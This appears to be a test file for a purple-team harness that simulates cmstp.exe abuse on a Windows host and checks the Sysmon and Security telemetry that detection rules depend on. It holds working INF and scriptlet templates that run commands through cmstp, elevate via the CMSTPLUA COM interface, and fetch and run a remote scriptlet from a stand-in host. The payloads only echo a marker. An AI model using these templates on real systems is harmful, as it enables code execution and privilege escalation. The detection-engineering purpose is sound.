import test from 'ava';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { sensorProfiles, type SensorProfileName } from './sensor-profiles.js';
import type { LabEvent } from './sysmon.js';
import { httpGet } from './http-get.js';
import { SimulatedWindowsHost, splitArguments, throughAdminShare } from './windows-host.js';

const marker = 'ph0123456789ab';
const runDir = `C:\\ProgramData\\purple-harness\\runs\\${marker}`;
const infPath = `${runDir}\\${marker}.inf`;
const markerPath = `${runDir}\\${marker}.txt`;
const echo = `cmd.exe /c echo ${marker}> ${markerPath}`;
const singleUser = [
  '[version]',
  'Signature=$chicago$',
  '[DefaultInstall_SingleUser]',
  'RunPreSetupCommands=Pre',
  '[Pre]',
  echo,
  '[Strings]',
  `ShortSvcName="${marker}"`,
].join('\r\n');
const allUsers = singleUser.replace('[DefaultInstall_SingleUser]', '[DefaultInstall]');
const guid = /^\{[0-9A-F]{8}(-[0-9A-F]{4}){3}-[0-9A-F]{12}\}$/;
const utcTime = /^\d{4}-\d\d-\d\d \d\d:\d\d:\d\d\.\d{3}$/;

function setup(
  sensor: SensorProfileName = 'full',
  network?: ConstructorParameters<typeof SimulatedWindowsHost>[0]['network'],
) {
  const events: LabEvent[] = [];
  const host = new SimulatedWindowsHost({
    computer: 'WIN10-LAB-01.lab.local',
    username: 'labadmin',
    sensor: sensorProfiles[sensor],
    emit: (e) => events.push(e),
    ...(network === undefined ? {} : { network }),
  });
  host.drive.mkdirp(runDir);
  const ssh = host.openSession();
  // cmstp's parent, as when the encoded PowerShell helper starts it (windows-remote.md 2.5).
  const session = host.processes.spawn({
    image: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
    commandLine: 'powershell.exe -NoProfile -NonInteractive -ExecutionPolicy Bypass -EncodedCommand AAAA',
    parent: ssh,
    user: host.user,
    integrityLevel: 'High',
    currentDirectory: 'C:\\Users\\labadmin\\',
  });
  const stage = (text: string): void => {
    host.writeFileAs(host.startSftpServer(ssh), infPath, Buffer.from(text), 'payload-file');
  };
  const find = (behaviour: string, eventId: number) =>
    events.filter((e) => e.behaviour === behaviour && e.fields.EventID === eventId);
  return { host, events, session, stage, find };
}

test('cmstp-exec and payload-file: Sysmon 1 and 11 with the fields detections key on', async (t) => {
  const { host, session, stage, find } = setup();
  stage(singleUser);

  await host.runCmstp(session, `/s /ns ${infPath}`);

  const [file] = find('payload-file', 11);
  const [cmstp] = find('cmstp-exec', 1);
  t.like(file?.fields, {
    TargetFilename: infPath,
    Image: 'C:\\Windows\\System32\\OpenSSH\\sftp-server.exe',
    Channel: 'Microsoft-Windows-Sysmon/Operational',
  });
  t.regex(String(file?.fields.CreationUtcTime), utcTime);
  t.like(cmstp?.fields, {
    Image: 'C:\\Windows\\System32\\cmstp.exe',
    OriginalFileName: 'CMSTP.EXE',
    Description: 'Microsoft Connection Manager Profile Installer',
    CommandLine: `"C:\\Windows\\System32\\cmstp.exe" /s /ns ${infPath}`,
    ParentImage: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
    IntegrityLevel: 'High',
    User: 'WIN10-LAB-01\\labadmin',
    Computer: 'WIN10-LAB-01.lab.local',
    TerminalSessionId: 0,
  });
  t.regex(String(cmstp?.fields.ProcessGuid), guid);
  t.regex(String(cmstp?.fields.UtcTime), utcTime);
  t.regex(
    String(cmstp?.fields.Hashes),
    /^SHA1=[0-9A-F]{40},MD5=[0-9A-F]{32},SHA256=[0-9A-F]{64},IMPHASH=[0-9A-F]{32}$/,
  );
  t.true(
    Date.parse(String(file?.fields.UtcTime).replace(' ', 'T') + 'Z') <=
      Date.parse(String(cmstp?.fields.UtcTime).replace(' ', 'T') + 'Z'),
  );
});

test('child-process (single user): parent is cmstp.exe, with a consistent GUID chain and a marker file', async (t) => {
  const { host, session, stage, find, events } = setup();
  stage(singleUser);

  await host.runCmstp(session, `/s /ns ${infPath}`);

  const [cmstp] = find('cmstp-exec', 1);
  const [child] = find('child-process', 1);
  t.like(child?.fields, {
    Image: 'C:\\Windows\\System32\\cmd.exe',
    CommandLine: echo,
    ParentImage: 'C:\\Windows\\System32\\cmstp.exe',
    ParentProcessGuid: cmstp?.fields.ProcessGuid,
    ParentProcessId: cmstp?.fields.ProcessId,
    ParentCommandLine: cmstp?.fields.CommandLine,
  });
  t.is(host.drive.get(markerPath)?.content.toString(), `${marker}\r\n`);
  const markerFile = events.find((e) => e.fields.EventID === 11 && e.fields.TargetFilename === markerPath);
  t.is(markerFile?.fields.ProcessGuid, child?.fields.ProcessGuid);
});

test('Security 4688 accompanies Sysmon 1 with hex ids, ParentProcessName and the command line', async (t) => {
  const { host, session, stage, find } = setup();
  stage(singleUser);

  await host.runCmstp(session, `/s /ns ${infPath}`);

  const [sysmon] = find('cmstp-exec', 1);
  const [security] = find('cmstp-exec', 4688);
  t.like(security?.fields, {
    Channel: 'Security',
    NewProcessName: 'C:\\Windows\\System32\\cmstp.exe',
    CommandLine: sysmon?.fields.CommandLine,
    ParentProcessName: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
    NewProcessId: `0x${Number(sysmon?.fields.ProcessId).toString(16)}`,
    MandatoryLabel: 'S-1-16-12288',
    TokenElevationType: '%%1936',
    SubjectUserName: 'labadmin',
  });
});

test('/au: com-elevation, child-process and profile-registry follow the OTRF recording', async (t) => {
  const { host, session, stage, find } = setup();
  stage(allUsers);

  await host.runCmstp(session, `/s ${infPath} /au`);

  const [surrogate] = find('com-elevation', 1);
  t.like(surrogate?.fields, {
    Image: 'C:\\Windows\\System32\\dllhost.exe',
    CommandLine: 'C:\\windows\\system32\\DllHost.exe /Processid:{3E5FC7F9-9A51-4367-9063-A120244FBEC7}',
    ParentCommandLine: 'C:\\Windows\\system32\\svchost.exe -k DcomLaunch -p',
    IntegrityLevel: 'High',
  });
  const loads = find('com-elevation', 7).map((e) => [
    e.fields.Image,
    e.fields.ImageLoaded,
    e.fields.OriginalFileName,
  ]);
  t.deepEqual(loads, [
    ['C:\\Windows\\System32\\dllhost.exe', 'C:\\Windows\\System32\\cmstplua.dll', 'CMSTPLUA.DLL'],
    ['C:\\Windows\\System32\\dllhost.exe', 'C:\\Windows\\System32\\cmlua.dll', 'CMLUA.DLL'],
  ]);
  const [child] = find('child-process', 1);
  t.like(child?.fields, {
    ParentImage: 'C:\\Windows\\System32\\dllhost.exe',
    ParentProcessGuid: surrogate?.fields.ProcessGuid,
    IntegrityLevel: 'High',
  });
  const [access] = find('com-elevation', 10);
  t.like(access?.fields, {
    SourceImage: 'C:\\Windows\\System32\\dllhost.exe',
    TargetImage: 'C:\\Windows\\System32\\cmd.exe',
    TargetProcessGUID: child?.fields.ProcessGuid,
    GrantedAccess: '0x1fffff',
  });
  t.regex(String(access?.fields.CallTrace), /advpack\.dll\+9c80\|.*\\cmlua\.dll\+24b4/);
  const registry = find('profile-registry', 12)
    .concat(find('profile-registry', 13))
    .map((e) => [e.fields.EventType, e.fields.TargetObject, e.fields.Details ?? null, e.fields.Image]);
  t.deepEqual(registry, [
    [
      'CreateKey',
      'HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\App Paths\\cmmgr32.exe',
      null,
      'C:\\Windows\\System32\\dllhost.exe',
    ],
    [
      'SetValue',
      'HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\App Paths\\cmmgr32.exe\\ProfileInstallPath',
      'C:\\ProgramData\\Microsoft\\Network\\Connections\\Cm',
      'C:\\Windows\\System32\\dllhost.exe',
    ],
  ]);
  t.true(host.drive.exists(`C:\\ProgramData\\Microsoft\\Network\\Connections\\Cm\\${marker}`));
});

test('AddReg in a single-user install writes profile keys from cmstp.exe into the user hive', async (t) => {
  const { host, session, stage, find } = setup();
  const inf = singleUser.replace(
    'RunPreSetupCommands=Pre',
    'AddReg=Reg\r\n[Reg]\r\nHKCU,"Software\\Microsoft\\Connection Manager\\Mappings","%ShortSvcName%",,"C:\\x\\%ShortSvcName%.cms"',
  );
  stage(inf);

  await host.runCmstp(session, `/s ${infPath}`);

  const set = find('profile-registry', 13)[0];
  t.like(set?.fields, {
    TargetObject: `HKU\\S-1-5-21-3470123407-2231371018-3463402313-1001\\Software\\Microsoft\\Connection Manager\\Mappings\\${marker}`,
    Details: `C:\\x\\${marker}.cms`,
    Image: 'C:\\Windows\\System32\\cmstp.exe',
  });
  t.deepEqual(host.registry.values('HKCU:\\Software\\Microsoft\\Connection Manager\\Mappings'), [
    { name: marker, data: `C:\\x\\${marker}.cms` },
  ]);
});

test('remote-fetch and scriptlet-load: scrobj.dll in cmstp, DNS, connection, cached SCT, and the scriptlet child', async (t) => {
  const sct = `<?XML version="1.0"?><scriptlet><registration progid="PH"><script language="JScript"><![CDATA[ new ActiveXObject("WScript.Shell").Run(${JSON.stringify(echo)}, 0, true); ]]></script></registration></scriptlet>`;
  const requests: string[] = [];
  const server = createServer((req, res) => {
    requests.push(`${req.headers.host ?? ''} ${req.url ?? ''}`);
    res.end(sct);
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  t.teardown(() => server.close());
  const port = (server.address() as AddressInfo).port;
  const { host, session, stage, find } = setup('full', {
    resolve: (name) => (name === 'payload.lab.test' ? '127.0.0.1' : null),
    fetch: (url, ip) =>
      httpGet({
        ip,
        port: Number(url.port),
        path: url.pathname,
        host: url.host,
        userAgent: 'test',
        timeoutMs: 5000,
      }),
  });
  stage(
    singleUser.replace(
      'RunPreSetupCommands=Pre',
      'UnRegisterOCXs=Ocx\r\n[Ocx]\r\n' +
        `%11%\\scrobj.dll,NI,http://payload.lab.test:${port}/${marker}/${marker}.sct`,
    ),
  );

  await host.runCmstp(session, `/s ${infPath}`);

  const [cmstp] = find('cmstp-exec', 1);
  t.like(find('scriptlet-load', 7)[0]?.fields, {
    Image: 'C:\\Windows\\System32\\cmstp.exe',
    ImageLoaded: 'C:\\Windows\\System32\\scrobj.dll',
    ProcessId: cmstp?.fields.ProcessId,
    Signed: 'true',
  });
  t.like(find('remote-fetch', 22)[0]?.fields, {
    Image: 'C:\\Windows\\System32\\cmstp.exe',
    QueryName: 'payload.lab.test',
    QueryStatus: '0',
    QueryResults: '::ffff:127.0.0.1;',
  });
  t.like(find('remote-fetch', 3)[0]?.fields, {
    Image: 'C:\\Windows\\System32\\cmstp.exe',
    Initiated: 'true',
    Protocol: 'tcp',
    DestinationIp: '127.0.0.1',
    DestinationHostname: 'payload.lab.test',
    DestinationPort: port,
  });
  t.deepEqual(requests, [`payload.lab.test:${port} /${marker}/${marker}.sct`]);
  t.like(find('child-process', 1)[0]?.fields, {
    ParentImage: 'C:\\Windows\\System32\\cmstp.exe',
    CommandLine: echo,
  });
  t.true(host.drive.exists(markerPath));
});

test('sensor profiles filter what the host records', async (t) => {
  const { host, session, stage, events } = setup('sysmon-baseline');
  stage(allUsers);

  await host.runCmstp(session, `/s ${infPath} /au`);

  const ids = new Set(events.map((e) => e.fields.EventID));
  t.false(ids.has(7));
  t.false(ids.has(10));
  t.false(events.some((e) => e.fields.EventID === 11 && String(e.fields.TargetFilename).endsWith('.inf')));
  t.true(ids.has(1));
  t.true(events.filter((e) => e.fields.EventID === 4688).every((e) => e.fields.CommandLine === ''));
});

test('a malformed INF makes cmstp fail with no child; a missing one with file-not-found', async (t) => {
  const { host, session, stage, events } = setup();
  stage(singleUser.replace('$chicago$', 'nope'));

  t.is((await host.runCmstp(session, `/s ${infPath}`)).exitCode, 0x8007000d);
  t.is((await host.runCmstp(session, `/s C:\\nowhere.inf`)).exitCode, 0x80070002);
  t.false(events.some((e) => e.behaviour === 'child-process'));
  t.false(host.drive.exists(markerPath));
});

test('exec is wrapped by cmd.exe; a non-PowerShell command fails like cmd would', async (t) => {
  const { host, session, events } = setup();

  const outcome = await host.exec(session, 'whoami', () => ({
    run: () => Promise.resolve({ stdout: '', stderr: '', exitCode: 0 }),
  }));

  t.is(outcome.exitCode, 1);
  t.regex(outcome.stderr, /'whoami' is not recognized/);
  t.is(
    events.filter((e) => e.fields.EventID === 1).at(-1)?.fields.CommandLine,
    '"c:\\windows\\system32\\cmd.exe" /c "whoami"',
  );
});

test('an encoded helper is decoded and its $Ph parameters parsed', async (t) => {
  const { host, session } = setup();
  const script = "# purple-harness remote operation: snapshot v1\n$PhMarker = 'it''s'\n$PhRunDir = 'C:\\x'\n";
  const encoded = Buffer.from(script, 'utf16le').toString('base64');
  let seen: { operation: string; params: ReadonlyMap<string, string> } | null = null;

  await host.exec(
    session,
    `powershell.exe -NoProfile -EncodedCommand ${encoded}`,
    ({ operation, params }) => {
      seen = { operation, params };
      return { run: () => Promise.resolve({ stdout: '', stderr: '', exitCode: 0 }) };
    },
  );

  t.deepEqual(seen, {
    operation: 'snapshot',
    params: new Map([
      ['Marker', "it's"],
      ['RunDir', 'C:\\x'],
    ]),
  });
});

test('arguments split like the C runtime: quoted paths with spaces stay whole', (t) => {
  t.deepEqual(splitArguments('/s "C:\\Program Files\\x y\\a.inf" /au'), [
    '/s',
    'C:\\Program Files\\x y\\a.inf',
    '/au',
  ]);
});

test('#17 cmstp given an INF by URL starts and does nothing more (the one public sample): no fetch, no child, no install', async (t) => {
  const { host, events, session, stage } = setup();
  stage(singleUser);
  const before = events.length;

  const { process, exitCode } = await host.runCmstp(
    session,
    `/ni /s http://payload.lab.test:8080/${marker}/${marker}.inf`,
  );

  const after = events.slice(before).map((e) => [e.behaviour, e.fields.EventID]);
  t.deepEqual(after, [
    ['cmstp-exec', 1],
    ['cmstp-exec', 4688],
  ]);
  t.is(exitCode, 0x80070002);
  t.true(process.commandLine.endsWith(`/ni /s http://payload.lab.test:8080/${marker}/${marker}.inf`));
  t.false(host.drive.exists(markerPath));
});

test('#17 cmstp reads an INF through the host administrative share as the file it names', async (t) => {
  const { host, session, stage, find } = setup();
  stage(singleUser);

  const share = `\\\\localhost\\C$\\${infPath.slice(3)}`;
  const { exitCode } = await host.runCmstp(session, `/s /ns ${share}`);

  t.is(exitCode, 0);
  t.true(host.drive.exists(markerPath));
  t.true(find('cmstp-exec', 1)[0]?.fields.CommandLine?.toString().endsWith(`/s /ns ${share}`));
  t.is(find('child-process', 1).length, 1);
  t.is(throughAdminShare('\\\\127.0.0.1\\d$\\x\\y.inf'), 'D:\\x\\y.inf');
  t.is(throughAdminShare('\\\\fileserver\\share\\y.inf'), '\\\\fileserver\\share\\y.inf');
});

test('#17 scrobj.dll runs a scriptlet named by a share path, with no network events', async (t) => {
  const { host, session, stage, find, events } = setup();
  const sctPath = `${runDir}\\${marker}-scriptlet.sct`;
  const sct = `<?XML version="1.0"?><scriptlet><registration progid="PH"><script language="JScript"><![CDATA[ new ActiveXObject("WScript.Shell").Run(${JSON.stringify(echo)}, 0, true); ]]></script></registration></scriptlet>`;
  host.drive.writeFile(sctPath, Buffer.from(sct));
  stage(
    singleUser.replace(
      'RunPreSetupCommands=Pre',
      `UnRegisterOCXs=Ocx\r\n[Ocx]\r\n%11%\\scrobj.dll,NI,\\\\localhost\\C$\\${sctPath.slice(3)}`,
    ),
  );

  await host.runCmstp(session, `/s ${infPath}`);

  t.is(find('scriptlet-load', 7).length, 1);
  t.like(find('child-process', 1)[0]?.fields, {
    ParentImage: 'C:\\Windows\\System32\\cmstp.exe',
    CommandLine: echo,
  });
  t.true(host.drive.exists(markerPath));
  t.is(events.filter((e) => e.behaviour === 'remote-fetch').length, 0);
});
